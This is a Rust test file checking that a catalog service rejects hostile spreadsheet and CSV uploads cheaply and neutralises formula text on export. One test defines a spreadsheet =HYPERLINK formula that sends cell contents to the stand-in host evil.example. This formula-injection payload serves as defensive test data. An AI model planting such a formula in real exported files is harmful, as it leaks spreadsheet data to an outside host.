//! Hostile item lists (issue #22, item 2): files of a few kilobytes that aborted the server
//! (an XLSX declaring 10^17 shared strings), took gigabytes (a 4 MB shared string in 300
//! cells; 100 KB of junk CSV rows answered with 150 MB of errors), or stalled the async
//! workers while they were parsed. Each now gets a typed 400 of bounded size, nothing is
//! written, and the server keeps answering while a file is parsed. Formula-like text in the
//! catalog is exported inert and imports back unchanged (issue #15, item 9).

use oneseal_domain::catalog::interchange::hostile::{hostile_files, junk_rows_csv};
use oneseal_domain::catalog::interchange::limits::MAX_ERRORS;
use oneseal_testkit::{Actor, TestApp, error_code};
use serde_json::Value;

use super::ledger_size;

/// The answer to one import: status, body as JSON and its size in bytes.
async fn import(admin: &Actor, xlsx: bool, file: Vec<u8>) -> (u16, Value, usize) {
    let format = if xlsx { "xlsx" } else { "csv" };
    let r = admin
        .post_bytes(&format!("/api/v1/catalog/import?format={format}"), file)
        .await;
    let status = r.status().as_u16();
    let bytes = r.bytes().await.unwrap();
    let body = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
    (status, body, bytes.len())
}

async fn item_count(admin: &Actor) -> u64 {
    let (status, body) = admin.get_json("/api/v1/catalog/items?per_page=1").await;
    assert_eq!(status, 200, "{body}");
    body["total"].as_u64().unwrap()
}

#[tokio::test]
async fn attacks_hostile_catalog_files_get_a_small_typed_400_and_write_nothing() {
    let app = TestApp::spawn_demo().await;
    let admin = app.admin().await;
    let (ledger, items) = (ledger_size(&app).await, item_count(&admin).await);
    for file in hostile_files().unwrap() {
        let (status, body, size) = import(&admin, file.xlsx, file.bytes).await;
        assert_eq!(status, 400, "{}: {body}", file.name);
        assert!(
            matches!(error_code(&body), "unreadable_file" | "import_rejected"),
            "{}: {body}",
            file.name
        );
        assert!(size < 64 << 10, "{}: a {size}-byte answer", file.name);
        if error_code(&body) == "import_rejected" {
            let details = &body["error"]["details"];
            let total = details["total"].as_u64().unwrap();
            let listed = details["errors"].as_array().unwrap().len();
            assert_eq!(listed, MAX_ERRORS, "{}", file.name);
            assert!(total > listed as u64, "{}: {total}", file.name);
            let message = body["error"]["message_en"].as_str().unwrap();
            assert!(message.contains(&total.to_string()), "{message}");
        }
    }
    assert_eq!(ledger_size(&app).await, ledger, "nothing may be written");
    assert_eq!(item_count(&admin).await, items);
}

/// Parsing runs on a blocking thread: while two uploads are being parsed, `/healthz` keeps
/// answering at once (before, the test server's only worker thread was busy with them until
/// they ended: 3.8 s measured on the demo server for two uploads).
#[tokio::test]
async fn attacks_catalog_imports_do_not_stall_other_requests_while_parsed() {
    let app = TestApp::spawn_demo().await;
    // A valid header, then 20,000 one-cell junk rows: each is decoded and refused (seconds of
    // CPU in a debug build, for a 160 KB file).
    let mut file = junk_rows_csv(0);
    for i in 0..20_000u32 {
        file.extend_from_slice(format!("j{i:06}\n").as_bytes());
    }
    let mut uploads = Vec::new();
    for _ in 0..2 {
        let (admin, file) = (app.admin().await, file.clone());
        uploads.push(tokio::spawn(
            async move { import(&admin, false, file).await },
        ));
    }
    let anonymous = app.anonymous();
    let (mut asked_while_parsing, mut slowest) = (0, std::time::Duration::ZERO);
    while uploads.iter().any(|u| !u.is_finished()) {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        let started = std::time::Instant::now();
        let (status, _) = anonymous.get_json("/healthz").await;
        assert_eq!(status, 200);
        slowest = slowest.max(started.elapsed());
        if uploads.iter().any(|u| !u.is_finished()) {
            asked_while_parsing += 1;
        }
    }
    assert!(
        asked_while_parsing >= 3,
        "only {asked_while_parsing} /healthz answers while the imports were parsed (slowest {slowest:?}): \
         the worker thread was busy parsing, or the file is too small to tell"
    );
    assert!(
        slowest < std::time::Duration::from_secs(1),
        "/healthz waited {slowest:?} for the imports"
    );
    for u in uploads {
        let (status, body, size) = u.await.unwrap();
        assert_eq!((status, error_code(&body)), (400, "import_rejected"));
        assert!(size < 64 << 10, "a {size}-byte answer");
    }
}

/// An item whose text a spreadsheet program would run (`=HYPERLINK(…)`), imported through the
/// API, is exported with a leading `'` in CSV and XLSX alike, and each export imports back
/// without a new version.
#[tokio::test]
async fn attacks_formula_text_in_the_catalog_is_exported_inert_and_round_trips() {
    const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")";
    let app = TestApp::spawn_demo().await;
    let admin = app.admin().await;
    let csv = admin
        .get("/api/v1/catalog/export?format=csv")
        .await
        .bytes()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(&csv[3..]);
    let header = reader.headers().unwrap().clone();
    let name = header.iter().position(|h| h == "name").unwrap();
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(&header).unwrap();
    for (i, rec) in reader.records().enumerate() {
        let mut fields: Vec<String> = rec.unwrap().iter().map(str::to_owned).collect();
        if i == 0 {
            fields[name] = LINK.to_owned();
        }
        out.write_record(&fields).unwrap();
    }
    let (status, body, _) = import(&admin, false, out.into_inner().unwrap()).await;
    assert_eq!(
        (status, &body["published"]),
        (200, &Value::from(1)),
        "{body}"
    );

    let csv = admin
        .get("/api/v1/catalog/export?format=csv")
        .await
        .bytes()
        .await
        .unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&csv[3..]);
    let mut seen = false;
    for rec in reader.records() {
        for cell in rec.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "CSV cell {cell:?}"
            );
            seen |= cell == format!("'{LINK}");
        }
    }
    assert!(seen, "the item's name is not in the CSV export");

    let xlsx = admin
        .get("/api/v1/catalog/export?format=xlsx")
        .await
        .bytes()
        .await
        .unwrap()
        .to_vec();
    {
        use calamine::Reader;
        let mut book: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.clone())).unwrap();
        let sheet = book.sheet_names()[0].clone();
        let range = book.worksheet_range(&sheet).unwrap();
        assert!(
            range
                .used_cells()
                .any(|c| c.2 == &calamine::Data::String(format!("'{LINK}")))
        );
        assert!(
            book.worksheet_formula(&sheet)
                .unwrap()
                .used_cells()
                .next()
                .is_none()
        );
    }
    for (xlsx_format, file) in [(false, csv.to_vec()), (true, xlsx)] {
        let (status, body, _) = import(&admin, xlsx_format, file).await;
        assert_eq!(status, 200, "{body}");
        assert_eq!(
            body["published"], 0,
            "a round trip published a version: {body}"
        );
    }
    let (_, found) = admin
        .get_json("/api/v1/catalog/items?q=HYPERLINK&per_page=5")
        .await;
    assert_eq!(found["items"][0]["name"], LINK, "{found}");
}
